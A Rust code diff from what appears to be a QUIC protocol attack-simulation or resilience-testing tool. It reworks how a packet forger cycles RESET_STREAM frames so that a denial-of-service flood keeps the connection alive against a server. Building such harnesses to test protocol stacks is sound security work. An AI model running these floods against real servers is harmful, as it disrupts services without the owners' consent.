@@ -21,7 +21,7 @@ use bytes::BytesMut;
 use quic_proto::connection::{ClientConfig, Connection, DatagramMeta};
 use quic_proto::frame::{FrameType, NewConnectionId, PathChallenge, ResetStream};
 use quic_proto::{
-    ConnectionId, Dir, RandomSource, SeededRandom, Side, StatelessResetToken, StreamId, VarInt,
+    ConnectionId, Dir, RandomSource, SeededRandom, StatelessResetToken, StreamId, VarInt,
 };
 
 use super::{Attack, FrameFlood};
@@ -31,7 +31,7 @@ use crate::udp::{Clock, drive};
 const INITIAL_SIZE: usize = 1200;
 /// Client-opened bidirectional streams the RESET_STREAM flood cycles over,
 /// at most (fewer if the server allows fewer).
-const RESET_STREAMS: u64 = 64;
+const RESET_STREAMS: usize = 64;
 
 /// What the attacker did.
 #[derive(Clone, Debug, Default)]
@@ -331,9 +331,12 @@ impl Attacker {
 /// Writes the frames of one forged packet.
 struct Forger {
     kind: FrameFlood,
-    /// RESET_STREAM: the next stream, and how many to cycle over.
-    next_stream: u64,
-    streams: u64,
+    /// RESET_STREAM: the streams cycled over, and the next one's place.
+    /// They are opened on our side too (nothing is sent on them), so that
+    /// our connection takes the server's answers to the resets (its own
+    /// RESET_STREAM, STOP_SENDING) instead of closing.
+    streams: Vec<StreamId>,
+    next_stream: usize,
     /// NEW_CONNECTION_ID: the next sequence number, and the length of the
     /// connection's IDs (new ones must match).
     next_seq: u64,
@@ -342,13 +345,9 @@ struct Forger {
 
 impl Forger {
     fn new(kind: FrameFlood, conn: &Connection) -> Self {
-        let streams = conn
-            .peer_transport_parameters()
-            .map_or(1, |p| p.initial_max_streams_bidi.into_inner())
-            .clamp(1, RESET_STREAMS);
         let cid_len = conn.local_cids().next().map_or(8, |c| c.len()).max(1);
         // A connection driven alone has issued only its handshake ID (0).
-        Self { kind, next_stream: 0, streams, next_seq: 1, cid_len }
+        Self { kind, streams: Vec::new(), next_stream: 0, next_seq: 1, cid_len }
     }
 
     /// As many frames of the kind as one packet holds.
@@ -374,8 +373,17 @@ impl Forger {
                 frame.encode(&mut buf);
             },
             FrameFlood::ResetStream => loop {
-                let index = self.next_stream % self.streams;
-                let id = StreamId::new(Side::Client, Dir::Bi, index).expect("a small index");
+                if self.next_stream >= self.streams.len() {
+                    // Fresh streams as the server's limit allows: once both
+                    // sides of a stream are closed, resets of it are moot.
+                    let fresh: Vec<_> =
+                        (0..RESET_STREAMS).map_while(|_| conn.open_stream(Dir::Bi)).collect();
+                    if !fresh.is_empty() {
+                        self.streams = fresh;
+                    }
+                    self.next_stream = 0;
+                }
+                let Some(&id) = self.streams.get(self.next_stream) else { break };
                 let code = VarInt::from_u32(rng.next_u64() as u32 & 0x3fff_ffff);
                 let frame = ResetStream { id, error_code: code, final_size: VarInt::ZERO };
                 if buf.len() + frame.encoded_len() > capacity {
